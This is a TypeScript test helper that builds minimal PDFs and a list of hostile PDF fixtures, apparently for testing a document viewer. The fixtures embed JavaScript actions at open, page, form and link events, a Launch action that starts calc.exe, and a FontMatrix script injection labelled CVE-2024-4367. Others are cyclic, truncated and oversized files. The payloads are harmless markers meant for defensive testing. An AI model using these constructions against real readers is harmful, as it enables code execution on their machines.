/** A PDF of plain lines, one list of them a page. ASCII only. */
export function pdfOf(pages: readonly (readonly string[])[], more: { readonly catalogue?: string; readonly page?: string; readonly objects?: readonly string[]; readonly kids?: string } = {}): Buffer {
  const objects = [
    `<</Type/Catalog/Pages 2 0 R${more.catalogue ?? ''}>>`,
    `<</Type/Pages/Count ${pages.length}/Kids[${more.kids ?? pages.map((_, at) => `${4 + at * 2} 0 R`).join(' ')}]>>`,
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    ...pages.flatMap((lines, at) => {
      const drawn = `BT /F1 13 Tf 60 780 Td 20 TL ${lines.map((line) => `(${line.replace(/[()\\]/g, '\\$&')}) Tj T*`).join(' ')} ET`;
      return [`<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 3 0 R>>>>/Contents ${5 + at * 2} 0 R${more.page ?? ''}>>`, `<</Length ${drawn.length}>>stream\n${drawn}\nendstream`];
    }),
    ...(more.objects ?? []),
  ];
  return assembled(objects);
}

function assembled(objects: readonly string[]): Buffer {
  let text = '%PDF-1.7\n';
  const places = objects.map((object, at) => {
    const place = text.length;
    text += `${at + 1} 0 obj${object}endobj\n`;
    return place;
  });
  const table = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')}trailer<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${table}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

const script = 'app.alert(1);window.hacked=1;this.submitForm("https://example.org/");';

/** What a sender could think of, by name; `says` is what the desk must answer, null where it just shows the page. */
export function hostilePdfs(): readonly { readonly name: string; readonly bytes: Buffer; readonly says: string | null }[] {
  const line = [['Kotu niyetli belge']];
  return [
    { name: 'script at opening', bytes: pdfOf(line, { catalogue: `/OpenAction<</S/JavaScript/JS(${script})>>/AA<</WC<</S/JavaScript/JS(${script})>>>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(${script})>>]>>>>` }), says: null },
    { name: 'script of a page, a form and a link', bytes: pdfOf(line, { catalogue: '/AcroForm<</Fields[6 0 R]/XFA(<xdp>)>>', page: `/AA<</O<</S/JavaScript/JS(${script})>>>>/Annots[6 0 R 7 0 R]`, objects: [`<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 595 842]/AA<</F<</S/JavaScript/JS(${script})>>>>>>`, '<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(javascript:window.hacked=1)>>>>'] }), says: null },
    { name: 'start a program', bytes: pdfOf(line, { catalogue: '/OpenAction<</S/Launch/F(calc.exe)>>' }), says: null },
    { name: 'font that is a script (CVE-2024-4367)', bytes: fontScript(), says: null },
    { name: 'cyclic pages', bytes: pdfOf(line, { kids: '2 0 R 2 0 R' }), says: 'broken' },
    { name: 'ten thousand pages', bytes: pdfOf(Array.from({ length: 10_000 }, (_, at) => [`Sayfa ${at + 1}`])), says: 'pages' },
    { name: 'cut off', bytes: pdfOf(line).subarray(0, 120), says: 'broken' },
    { name: 'nothing but a head', bytes: Buffer.from('%PDF-1.7\n'), says: 'broken' },
    { name: 'a page of a kilometre', bytes: Buffer.from(pdfOf(line).toString('latin1').replace('[0 0 595 842]', '[0 0 9e6 9e6]'), 'latin1'), says: null },
  ];
}

const fontScript = (): Buffer => pdfOf([['Kotu niyetli yazi tipi']], { page: '/Resources<</Font<</F1 6 0 R>>>>', objects: ['<</Type/Font/Subtype/Type1/BaseFont/Kotu/FontMatrix[1 2 3 4 5 (0\\); window.hacked=1; \\(0)]/FirstChar 32/LastChar 126/Widths[500]>>'] });
